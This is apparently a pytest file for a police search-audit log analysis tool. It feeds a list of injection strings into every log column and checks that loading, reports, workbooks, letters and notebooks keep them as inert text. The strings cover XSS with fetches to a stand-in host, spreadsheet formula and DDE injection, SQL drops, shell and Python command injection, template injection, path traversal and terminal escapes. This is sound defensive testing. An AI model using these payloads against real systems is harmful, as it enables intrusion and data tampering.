"""Hostile text in every column of a log: through loading, counting, checking, reviewing and reporting it stays text."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from bs4 import BeautifulSoup
from made_logs import AUDIT, PORTAL, as_csv, record

import investigate as inv

OWNER = "Fernwick IL PD"
DIRECTIONS = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200f"


def texts(ran: Path) -> list[str]:
    """What strangers may type; whatever takes one of them for more than text leaves the file `ran`."""
    return [
        f"<script>fetch('http://192.0.2.1/{ran.name}')</script> ICE",
        "<img src=x onerror=alert(1)> ICE", "<svg/onload=alert(1)><style>@import 'http://192.0.2.1/x';</style> ICE",
        "[ICE](javascript:alert(1)) ![x](http://192.0.2.1/x.png)",
        "</td></table><iframe src=http://192.0.2.1></iframe> ICE",
        '=HYPERLINK("http://192.0.2.1","ICE")', "+cmd|' /C calc'!A0 ICE", "-2+3+ICE", "@SUM(1+1) ICE", "\tICE",
        "\x1b[31mICE\x1b]0;title\x07", f"ICE {DIRECTIONS} EC\u200bI", "ICE " + "A" * 1_000_000,
        "{{ 7*7 }}{% raw %} ICE {{ cycler.__init__.__globals__.os }}",
        "{ran} {0} %s %(x)s ${x} ICE",
        f"ICE'); COPY (SELECT 1) TO '{ran}'; --", "ICE'; DROP TABLE searches; --", '"; SELECT 1 UNION ALL SELECT "ICE',
        f"$(touch {ran}) `touch {ran}` ICE; touch {ran} | touch {ran}", f"ICE\"; import os; os.system('touch {ran}') #",
        f"\"\"\"\nimport pathlib; pathlib.Path('{ran}').touch()\n\"\"\" ICE",
        f"__import__('os').system('touch {ran}') ICE",
        "../../../ICE", "CON", "NUL.txt", "..", "ICE\x00", "ICE\r\nName,Org Name", "ICE\\", "\\u003cscript\\u003e ICE",
        "&lt;script&gt;alert(1)&lt;/script&gt; ICE", "ｉｃｅ <ＳＣＲＩＰＴ>", "C:\\ICE\\%TEMP%",
    ]  # fmt: skip


def command(*arguments: object, root: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "investigate.cli", *map(str, arguments)],
        capture_output=True, text=True, timeout=600, check=False, cwd=root,
        env=os.environ | {"INVESTIGATE_WORKSPACE": str(root), "COLUMNS": "200"},
    )  # fmt: skip


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace of logs in two layouts with each text in each column, and all that the commands made of them."""
    root = tmp_path_factory.mktemp("hostile text")
    hostile = texts(root / "ran")
    known = [name for name in AUDIT if name not in {"ID", "Search Time", "Time Frame", "Total Networks Searched"}]
    rows = []
    for text in hostile:
        for column in known:
            cells = {"OrgName": "Ashmoor IL PD", "Reason": "ICE", column.replace(" ", "").replace("#", ""): text}
            when = f"03/{len(rows) % 28 + 1:02}/2025, 10:{len(rows) % 60:02}:00 AM UTC"
            rows.append(record(len(rows), SearchTime=when, **cells))
    logs = root / "logs"
    (logs / "one").mkdir(parents=True)
    (logs / "one" / f"{OWNER}_Network_Audit.csv").write_text(as_csv([AUDIT, *rows]), encoding="utf-8", newline="")
    portal = [record(number, PORTAL, reason=text, userId=text) for number, text in enumerate(hostile)]
    (logs / "brackenfall-il-pd").mkdir()
    (logs / "brackenfall-il-pd" / "search_audit.csv").write_text(
        as_csv([PORTAL, *portal]), encoding="utf-8", newline=""
    )
    print_ = []
    for arguments in (
        ["load", logs], ["load", logs, "--json"], ["check"], ["check", "--json"], ["rivals"], ["clues"],
        ["count", "--by", "searching_agency,category"], ["count", "--by", "searching_agency", "--json"],
        ["compare"], ["review", "draw", "--per-category", "40", "--seed", "1"], ["report", OWNER, "--jobs", "1"],
        ["report", hostile[20], "--jobs", "1"], ["agency", *hostile[:3]], ["classify", "--", *hostile[:12]],
    ):  # fmt: skip
        done = command(*arguments, root=root)
        assert done.returncode == 0, (arguments, done.stderr[-2000:])
        print_.append(done.stdout + done.stderr)
    (root / "printed.txt").write_text("".join(print_), encoding="utf-8")
    return root


def made_by_a_text(page: BeautifulSoup, own: set[str]) -> list[str]:
    """Elements and attributes that run or load something, but for those of `own`."""
    kinds = {"iframe", "object", "embed", "base", "form"} - own
    handlers = [name for tag in page.find_all(True) for name in tag.attrs if name.lower().startswith("on")]
    links = [tag["href"] for tag in page.find_all(href=True) if ":" in tag["href"]]
    return [tag.name for tag in page.find_all(sorted(kinds))] + handlers + links


def test_every_row_is_accounted_for(root: Path) -> None:
    report = json.loads((root / "data" / "store" / "load_report.json").read_text(encoding="utf-8"))
    for one in report:
        assert one["rows_read"] == one["rows_loaded"] + one["rows_rejected"] + one["rows_blank"]
    assert sum(one["rows_loaded"] for one in report) > 300


def test_nothing_ran_and_nothing_lies_outside_its_folder(root: Path) -> None:
    assert not [path for path in root.rglob("*") if path.name == "ran"]
    assert {path.name for path in root.iterdir()} == {"data", "logs", "printed.txt", "reports"}
    assert {path.name for path in root.parent.iterdir() if path.name == "ran"} == set()
    folders = [path.name for path in (root / "reports" / "output").iterdir() if path.is_dir()]
    assert len(folders) == 2
    assert all(re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", name) for name in folders)


def test_the_terminal_is_not_steered(root: Path) -> None:
    printed = (root / "printed.txt").read_text(encoding="utf-8")
    assert "Ashmoor IL PD" in printed
    assert not re.findall(f"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f{DIRECTIONS}]", printed)


def test_pages_hold_no_element_that_a_text_made(root: Path) -> None:
    pages = list((root / "reports").rglob("*.html"))
    assert len(pages) == 3
    for path in pages:
        page = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        own = {"form"} if path.parent.name == "output" else set()  # the index's search, which sends nothing
        assert not made_by_a_text(page, own)
        assert not [tag for tag in page.find_all(href=True) if not re.match(r"#|\.\./|[a-z0-9/._-]+$", tag["href"])]
        assert not [tag for tag in page.find_all("img") if not tag["src"].startswith("data:image/")]
        scripts = page.find_all("script")
        assert len(scripts) == (path.parent.name == "output")
        assert "default-src 'none'" in page.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
        assert "49" not in {cell.text for cell in page.find_all(["td", "th", "h1"])}  # 7*7
        assert not re.search(f"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f{DIRECTIONS}]", page.text)
    whole = "".join(path.read_text(encoding="utf-8") for path in pages)
    assert "import pathlib" in whole  # the name of the agency that is one of the texts, as text
    assert "192.0.2.1" not in "".join(str(tag.attrs) for tag in BeautifulSoup(whole, "html.parser").find_all(True))


def test_no_cell_of_a_workbook_or_csv_is_a_formula(root: Path) -> None:
    books = list((root / "data" / "review").rglob("*.xlsx"))
    assert books
    cells = [cell for book in books for sheet in openpyxl.load_workbook(book) for row in sheet for cell in row]
    assert any("HYPERLINK" in str(cell.value) for cell in cells)
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
    lines = [line for path in (root / "reports").rglob("*.csv") for line in path.read_text("utf-8").splitlines()]
    assert lines
    assert not [line for line in lines for cell in line.split(",") if cell.strip('"')[:1] in tuple("=+@\t")]


def test_letters_and_notebooks_hold_it_as_text(root: Path) -> None:
    letters = list((root / "reports").rglob("*.docx"))
    assert letters
    for path in letters:
        with zipfile.ZipFile(path) as letter:
            assert not [name for name in letter.namelist() if "vba" in name.lower() or "embed" in name.lower()]
            links = b"".join(letter.read(name) for name in letter.namelist() if name.endswith(".rels"))
        assert b"192.0.2.1" not in links
        assert b"javascript" not in links
    for path in (root / "reports").rglob("*.ipynb"):
        notebook = json.loads(path.read_text(encoding="utf-8"))
        told = next(cell for cell in notebook["cells"] if "injected-parameters" in cell["metadata"].get("tags", []))
        compile_alone = [line for line in "".join(told["source"]).splitlines() if line and not line.startswith("#")]
        assert [line.partition(" = ")[0] for line in compile_alone] == ["agency", "role", "workspace"]
        html = [
            "".join(output["data"]["text/html"])
            for cell in notebook["cells"]
            for output in cell.get("outputs", [])
            if "text/html" in output.get("data", {})
        ]
        assert not [one for one in html if made_by_a_text(BeautifulSoup(one, "html.parser"), set())]


def test_counts_are_those_of_the_rows(root: Path) -> None:
    """All of one layout have a reason that says ICE but those whose reason is another text."""
    counted = inv.count_searches("camera_owner", scope="standard", workspace=root)
    mine = counted[counted["camera_owner"] == OWNER]
    reasons = len(texts(root / "ran"))
    assert mine["searches"].sum() == reasons * 9
    assert mine["immigration_related"].sum() >= reasons * 8
